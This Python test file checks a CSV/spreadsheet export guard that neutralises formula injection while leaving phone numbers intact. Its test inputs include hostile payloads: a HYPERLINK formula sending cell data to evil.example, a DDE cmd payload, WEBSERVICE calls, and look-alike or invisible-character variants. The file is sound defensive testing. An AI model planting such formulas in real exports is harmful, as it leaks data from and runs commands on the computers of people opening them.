"""No spreadsheet executes what people wrote, and phone numbers survive."""

import itertools
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.exports.guard import guard

TEXT = st.text(st.one_of(st.characters(codec="utf-8"), st.sampled_from("=+-@＝＋−'\" \t\r\n;(!|\u200b\u00a0\u202e")))
PHONES = st.from_regex(r"\+[1-9][0-9]{1,14}", fullmatch=True)


def looks_like_a_formula(cell: str) -> bool:
    """What a spreadsheet may see: blanks and what is invisible skipped, look-alikes taken for the sign itself."""
    for character in cell:
        if unicodedata.category(character)[0] not in "ZC":
            wide_or_small = unicodedata.decomposition(character).startswith(("<wide>", "<small>"))
            return (unicodedata.normalize("NFKC", character) if wide_or_small else character) in "=+-@−"
    return False


def is_phone(cell: str) -> bool:
    return re.fullmatch(r"\+[0-9 ]+", cell) is not None


@given(TEXT)
def test_no_cell_is_a_formula(text: str) -> None:
    cell = guard(text)

    assert not looks_like_a_formula(cell) or is_phone(cell)
    assert not cell.startswith(("\t", "\r", "\n"))


@given(TEXT)
def test_no_cell_that_another_separator_would_make_calls_anything(text: str) -> None:
    for cell in re.split(r"[;\t\r\n]", guard(text)):
        assert not looks_like_a_formula(cell.lstrip('"')) or not re.search(r"[(|!#\[]", cell)


@given(PHONES)
def test_every_phone_number_stays_as_it_is(phone: str) -> None:
    assert guard(phone) == phone


@pytest.mark.parametrize("phone", ["+351211234567", "+351 21 123 4567", "+1 202 555 0143"])
def test_a_phone_number_may_have_spaces(phone: str) -> None:
    assert guard(phone) == phone


@pytest.mark.parametrize(
    "text",
    ["+1-1", "+351211234567+1", "+0123", "+1234567890123456", "+351  21", "+351\n21", "+３５１211234567", "+A1", "+"],
)
def test_what_only_begins_like_a_phone_number_is_guarded(text: str) -> None:
    assert guard(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1, "More")',
        "=cmd|'/c calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "  =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\u202e=1+1",
        "\t=1+1",
        "\tplain",
        "\r=1+1",
        '"=1+1',
        "＝1+1",
        "﹣1",
        "−1",
        "-5",
    ],
)
def test_a_formula_gets_an_apostrophe_in_front(text: str) -> None:
    assert guard(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Zoë Ångström",
        "a=b",
        "ana@globex.example",
        "'quoted'",
        "مرحبا بالعالم",
        "\u200fمرحبا",
        "🤖 robots",
        "wants:\n- a quote\n- a call; + samples",
        "two\n=> three",
        "2026-11-21 10:00 Ana: =1+1",
    ],
)
def test_what_does_no_harm_stays_as_it_is(text: str) -> None:
    assert guard(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("hot;=cmd|'/c calc'!A0", "hot;'=cmd|'/c calc'!A0"),
        ("hot; =WEBSERVICE(A1); cold", "hot;' =WEBSERVICE(A1); cold"),
        ('hot;"=WEBSERVICE(A1)"', 'hot;\'"=WEBSERVICE(A1)"'),
        ("hot\n@SUM(A1)\n- list", "hot\n'@SUM(A1)\n- list"),
        ("hot\t+A1!B2", "hot\t'+A1!B2"),
        ("=A1;=F(1)", "'=A1;'=F(1)"),
    ],
)
def test_a_formula_behind_another_separator_is_guarded(text: str, cell: str) -> None:
    assert guard(text) == cell


def test_a_guarded_text_can_be_told_from_every_other() -> None:
    texts = ["".join(letters) for size in range(7) for letters in itertools.product("'=;(\ta", repeat=size)]

    assert len({guard(text) for text in texts}) == len(texts)
